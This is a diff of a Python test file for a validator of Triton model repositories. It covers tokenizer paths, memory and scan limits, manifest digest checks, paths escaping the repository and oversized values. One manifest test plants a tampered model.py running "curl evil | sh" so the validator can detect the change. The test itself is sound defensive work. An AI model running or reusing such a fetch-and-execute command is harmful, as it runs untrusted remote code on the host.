@@ -248,14 +248,15 @@ def build_repository(
     llm_model_name: str = "tensorrt_llm",
     with_model_py: bool = True,
 ) -> Path:
-    """A five-model inflight_batcher_llm repository at tmp_path/repo; each keyword can break one aspect of it."""
+    """A five-model inflight_batcher_llm repository at tmp_path/repo, its tokenizer and engine inside it (the engine by
+    absolute path, as the tensorrtllm backend needs); each keyword can break one aspect of it."""
     root = tmp_path / "repo"
-    tokenizer = tmp_path / "tokenizer"
-    tokenizer.mkdir()
+    tokenizer = root / "preprocessing" / "1" / "tokenizer"
+    tokenizer.mkdir(parents=True)
     for name in tokenizer_files:
         (tokenizer / name).write_text("{}")
-    engine = tmp_path / "engine"
-    engine.mkdir()
+    engine = root / "tensorrt_llm" / "1" / "engine"
+    engine.mkdir(parents=True)
     for name in engine_files:
         (engine / name).write_bytes(b"")
     values = {
@@ -275,11 +276,10 @@ def build_repository(
     }
     for name, template in templates.items():
         version = root / name / "1"
-        version.mkdir(parents=True)
+        version.mkdir(parents=True, exist_ok=True)
         (root / name / "config.pbtxt").write_text(template.format(**values))
         if with_model_py and name in ("preprocessing", "postprocessing", "tensorrt_llm_bls"):
             (version / "model.py").write_text("class TritonPythonModel:\n    pass\n")
-    (root / "tritonrepo.json").write_text('{"manifest": true}\n')
     return root
 
 
@@ -445,7 +445,7 @@ def test_missing_required_input_mapping(tmp_path: Path) -> None:
 
 
 def test_missing_tokenizer_dir(tmp_path: Path) -> None:
-    missing = tmp_path / "no-such-tokenizer"
+    missing = tmp_path / "repo" / "preprocessing" / "1" / "no-such-tokenizer"
     root = build_repository(tmp_path, tokenizer_dir=str(missing))
     problems = validate_repository(root)
     assert {p.file for p in problems} == {"preprocessing/config.pbtxt", "postprocessing/config.pbtxt"}
@@ -462,13 +462,13 @@ def test_tokenizer_dir_without_tokenizer_files(tmp_path: Path) -> None:
 
 
 def test_relative_tokenizer_path_resolves_against_the_root(tmp_path: Path) -> None:
-    root = build_repository(tmp_path, tokenizer_dir="../tokenizer")
+    root = build_repository(tmp_path, tokenizer_dir="preprocessing/1/tokenizer")
     assert validate_repository(root) == []
     (tmp_path / "second").mkdir()
-    inside = build_repository(tmp_path / "second", tokenizer_dir="preprocessing/1/tokenizer")
+    inside = build_repository(tmp_path / "second", tokenizer_dir="preprocessing/1/tok")
     problems = validate_repository(inside)
     assert problems and all("relative paths resolve against the repository root" in p.message for p in problems)
-    shutil.copytree(tmp_path / "second" / "tokenizer", inside / "preprocessing" / "1" / "tokenizer")
+    shutil.copytree(inside / "preprocessing" / "1" / "tokenizer", inside / "preprocessing" / "1" / "tok")
     assert validate_repository(inside) == []
 
 
@@ -492,9 +492,9 @@ def test_name_mismatch(tmp_path: Path) -> None:
 
 def test_missing_version_directory(tmp_path: Path) -> None:
     root = build_repository(tmp_path)
-    shutil.rmtree(root / "tensorrt_llm" / "1")
+    shutil.rmtree(root / "ensemble" / "1")
     problems = validate_repository(root)
-    assert [(p.file, p.line) for p in problems] == [("tensorrt_llm", None)]
+    assert [(p.file, p.line) for p in problems] == [("ensemble", None)]
     assert "version directory" in problems[0].message
 
 
@@ -597,3 +597,215 @@ def test_problems_are_sorted_and_formatted(tmp_path: Path) -> None:
     ]
     assert str(Problem("a/config.pbtxt", 12, "bad")) == "a/config.pbtxt:12: bad"
     assert str(Problem("a", None, "bad")) == "a: bad"
+
+
+# --- scaling (issue 12, item 13): asserted by structure and memory, never by time -----------------------------------
+def _add_parameters(root: Path, model: str, count: int) -> None:
+    config = root / model / "config.pbtxt"
+    extra = "".join(
+        f'parameters {{\n  key: "setting_{i}"\n  value: {{ string_value: "value {i}" }}\n}}\n' for i in range(count)
+    )
+    config.write_text(config.read_text() + extra)
+
+
+def test_each_config_is_scanned_once_however_many_parameters_it_has(tmp_path: Path, monkeypatch) -> None:
+    """Every line lookup is answered from one index per config; a scan per finding made 8,000 parameters take
+    minutes. The counting doubles wrap the index and the per-line comment stripping it is built from."""
+    from tritonrepo.repository import config_lines, validate
+
+    root = build_repository(tmp_path)
+    _add_parameters(root, "preprocessing", 3000)
+    edit(root, "preprocessing", 'key: "setting_2999"', 'key: "setting_2999_dir"')  # a path problem on the last one
+    built, stripped = [], []
+    real_code_part, real_index = config_lines.code_part, validate.ConfigLines
+
+    def counting_code_part(line: str) -> str:
+        stripped.append(line)
+        return real_code_part(line)
+
+    def counting_index(lines):
+        built.append(len(lines))
+        return real_index(lines)
+
+    monkeypatch.setattr(config_lines, "code_part", counting_code_part)
+    monkeypatch.setattr(validate, "ConfigLines", counting_index)
+    problems = validate_repository(root)
+    assert len(built) == 5  # one index per model
+    total_lines = sum(len((root / m / "config.pbtxt").read_text().splitlines()) for m in ("ensemble", "preprocessing",
+                      "tensorrt_llm", "postprocessing", "tensorrt_llm_bls"))  # fmt: skip
+    assert len(stripped) == total_lines == sum(built)  # each line looked at once, whatever was looked up
+    assert [(p.file, p.line) for p in problems] == [
+        ("preprocessing/config.pbtxt", line_of(root, "preprocessing", 'key: "setting_2999_dir"'))
+    ]
+
+
+def test_a_config_above_the_size_limit_is_refused_without_parsing_it(tmp_path: Path, monkeypatch) -> None:
+    from tritonrepo.repository import validate
+    from tritonrepo.repository.limits import MAX_CONFIG_BYTES
+
+    root = build_repository(tmp_path)
+    blob = "x" * (MAX_CONFIG_BYTES + 1)
+    edit(root, "postprocessing", 'instance_group', f'parameters {{ key: "blob" value: {{ string_value: "{blob}" }} }}\n'
+         "instance_group")  # fmt: skip
+    indexed = []
+    monkeypatch.setattr(validate, "ConfigLines", lambda lines: indexed.append(lines) or config_index(lines))
+    problems = validate_repository(root)
+    assert len(indexed) == 4  # every model but the oversized one
+    over = [p for p in problems if p.file == "postprocessing/config.pbtxt"]
+    assert len(over) == 1 and f"above the limit of {MAX_CONFIG_BYTES:,}" in over[0].message
+    assert f"{(root / 'postprocessing/config.pbtxt').stat().st_size:,} bytes" in over[0].message
+
+
+def config_index(lines):
+    from tritonrepo.repository.config_lines import ConfigLines
+
+    return ConfigLines(lines)
+
+
+def test_a_long_string_is_checked_in_memory_proportional_to_it(tmp_path: Path) -> None:
+    """The quoted-string patterns ran a backtracking repeat per character: about 130 bytes of regex stack for each
+    byte of a long string (a 50 MB string took 6 GB). Now the peak stays a small multiple of the string."""
+    import tracemalloc
+
+    root = build_repository(tmp_path)
+    size = 2_000_000
+    edit(root, "postprocessing", 'key: "tokenizer_dir"', 'key: "blob"\n  value: { string_value: "' + "x" * size +
+         '" }\n}\nparameters {\n  key: "tokenizer_dir"')  # fmt: skip
+    validate_repository(root)  # imports and caches first: they are not what is measured
+    tracemalloc.start()
+    try:
+        assert validate_repository(root) == []
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 20 * size, f"peak {peak / 1e6:.0f} MB for a {size / 1e6:.0f} MB string"
+
+
+# --- trust (issue 12, item 14): digests, paths that leave the repository, absurd sizes ------------------------------
+def _with_manifest(root: Path) -> Path:
+    from tritonrepo.repository.manifest import file_digests, write_manifest
+
+    write_manifest(root, {"format": 1, "files": file_digests(root)})
+    return root
+
+
+def test_a_changed_missing_or_added_file_is_named_against_the_manifest(tmp_path: Path) -> None:
+    root = _with_manifest(build_repository(tmp_path))
+    assert validate_repository(root) == []
+    code = root / "tensorrt_llm_bls" / "1" / "model.py"
+    code.write_text(code.read_text().replace("pass", "1/0 "))  # same size, other bytes
+    (root / "postprocessing" / "1" / "model.py").unlink()
+    (root / "preprocessing" / "1" / "model.py").write_text("import os\nos.system('curl evil | sh')\n")
+    (root / "preprocessing" / "2").mkdir()
+    (root / "preprocessing" / "2" / "model.py").write_text("class TritonPythonModel:\n    pass\n")
+    problems = {p.file: p.message for p in validate_repository(root) if p.file.endswith(".py")}
+    assert problems["tensorrt_llm_bls/1/model.py"].startswith("changed since the build: sha256 ")
+    assert problems["preprocessing/1/model.py"].startswith("changed since the build: ")
+    assert "tritonrepo.json says" in problems["preprocessing/1/model.py"]
+    assert problems["preprocessing/2/model.py"].startswith("not listed in tritonrepo.json: added after the build")
+    assert any(p.startswith("missing: tritonrepo.json lists it") for f, p in problems.items() if f.startswith("post"))
+
+
+def test_without_a_manifest_or_its_digests_nothing_is_compared(tmp_path: Path) -> None:
+    root = build_repository(tmp_path)  # as upstream's tools make it
+    (root / "preprocessing" / "1" / "extra.py").write_text("")
+    assert validate_repository(root) == []
+    (root / "tritonrepo.json").write_text('{"entry_points": ["ensemble"]}')  # hand-written, vouches for no file
+    assert validate_repository(root) == []
+    (root / "tritonrepo.json").write_text("{not json")
+    assert [p.file for p in validate_repository(root)] == ["tritonrepo.json"]
+
+
+def test_large_files_go_through_the_digest_memo_and_small_ones_are_hashed_every_time(tmp_path, monkeypatch) -> None:
+    from tritonrepo.repository import integrity
+    from tritonrepo.repository.manifest import sha256_file
+
+    root = _with_manifest(build_repository(tmp_path))
+    engine = root / "tensorrt_llm" / "1" / "engine" / "rank0.engine"
+    engine.write_bytes(b"0" * 64)
+    root = _with_manifest(root)
+    monkeypatch.setattr(integrity, "ALWAYS_HASHED_BELOW", 50)  # the engine counts as large, the rest as small
+
+    class RecordingMemo:
+        asked: list = []
+
+        def of(self, path: Path) -> str:
+            self.asked.append(Path(path).relative_to(root).as_posix())
+            return sha256_file(path)
+
+    memo = RecordingMemo()
+    assert validate_repository(root, digests=memo) == []
+    assert memo.asked == ["tensorrt_llm/1/engine/rank0.engine"]
+    engine.write_bytes(b"1" * 64)
+    assert [p.file for p in validate_repository(root, digests=memo)] == ["tensorrt_llm/1/engine/rank0.engine"]
+
+
+@pytest.mark.parametrize("where", ["absolute", "dot-dot", "model-directory", "link"])
+def test_a_tokenizer_outside_the_repository_is_refused(tmp_path: Path, where: str) -> None:
+    """Another model's tokenizer (or weights) served under this model's name."""
+    other = tmp_path / "other-model" / "tokenizer"
+    other.mkdir(parents=True)
+    (other / "tokenizer.json").write_text("{}")
+    values = {
+        "absolute": str(other),
+        "dot-dot": "../other-model/tokenizer",
+        "model-directory": "$$TRITON_MODEL_DIRECTORY/../../other-model/tokenizer",
+        "link": "preprocessing/1/linked",
+    }
+    root = build_repository(tmp_path, tokenizer_dir=values[where])
+    (root / "preprocessing" / "1" / "linked").symlink_to(other)
+    problems = validate_repository(root)
+    on_tokenizer = [p for p in problems if "tokenizer_dir" in p.message]
+    assert {p.file for p in on_tokenizer} == {"preprocessing/config.pbtxt", "postprocessing/config.pbtxt"}
+    assert all(f"resolves to {other}, outside the repository" in p.message for p in on_tokenizer)
+    links = [p for p in problems if p.file == "preprocessing/1/linked"]  # the link itself, whoever reads it
+    assert len(links) == 1 and f"is a link to {other}, outside the repository" in links[0].message
+
+
+def test_paths_inside_the_repository_may_be_absolute_or_relative(tmp_path: Path) -> None:
+    root = build_repository(tmp_path, tokenizer_dir="$$TRITON_MODEL_DIRECTORY/../preprocessing/1/tokenizer")
+    assert validate_repository(root) == []
+    (root / "preprocessing" / "1" / "alias").symlink_to(root / "preprocessing" / "1" / "tokenizer")
+    assert validate_repository(root) == []  # a link that stays inside is fine
+
+
+def test_an_llmapi_checkpoint_outside_the_repository_is_refused_and_a_hub_id_is_not_a_path(tmp_path: Path) -> None:
+    from tritonrepo.pytorch_path.triton_repo import render_llmapi_repository
+
+    outside = tmp_path / "weights"
+    outside.mkdir()
+    for model, refused in ((str(outside), True), ("../weights", True), ("deepseek-ai/DeepSeek-R1", False)):
+        root = tmp_path / f"repo-{len(model)}"
+        files = render_llmapi_repository({"model": model, "backend": "pytorch"}, triton_max_batch_size=0)
+        for relative, text in files.items():
+            (root / relative).parent.mkdir(parents=True, exist_ok=True)
+            (root / relative).write_text(text)
+        messages = [p.message for p in validate_repository(root)]
+        assert any("outside the repository" in m for m in messages) == refused, (model, messages)
+
+
+def test_absurd_sizes_are_refused_with_the_number_and_the_limit(tmp_path: Path) -> None:
+    from tritonrepo.repository import limits
+
+    root = build_repository(tmp_path)
+    edit(root, "postprocessing", "count: 1", "count: 1000000")
+    edit(root, "preprocessing", "max_batch_size: 8", "max_batch_size: 2147483647")
+    edit(root, "tensorrt_llm", '"input_ids" data_type: TYPE_INT32 dims: [ -1 ]',
+         '"input_ids" data_type: TYPE_INT32 dims: [ 9223372036854775807 ]')  # fmt: skip
+    edit(root, "tensorrt_llm", "instance_group", 'dynamic_batching { default_queue_policy { max_queue_size: '
+         '100000000 } }\nparameters { key: "max_num_sequences" value: { string_value: "99999999999" } }\n'
+         "instance_group")  # fmt: skip
+    problems = validate_repository(root)
+    found = {(p.file, p.line): p.message for p in problems if "above the limit" in p.message}
+    expected = {
+        ("postprocessing/config.pbtxt", line_of(root, "postprocessing", "count: 1000000")):
+            f"instance_group count 1,000,000 is above the limit of {limits.MAX_INSTANCE_COUNT:,}",
+        ("preprocessing/config.pbtxt", 3): f"max_batch_size 2,147,483,647 is above the limit of {limits.MAX_BATCH_SIZE:,}",
+        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", '"input_ids"')):
+            f'input "input_ids" dimension 9,223,372,036,854,775,807 is above the limit of {limits.MAX_DIM:,}',
+        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", "max_queue_size")):
+            f"max_queue_size 100,000,000 is above the limit of {limits.MAX_QUEUE_SIZE:,}",
+        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", "max_num_sequences")):
+            f"parameter max_num_sequences 99,999,999,999 is above the limit of {limits.MAX_BATCH_SIZE:,}",
+    }  # fmt: skip
+    assert {where: message.split(";")[0] for where, message in found.items()} == expected
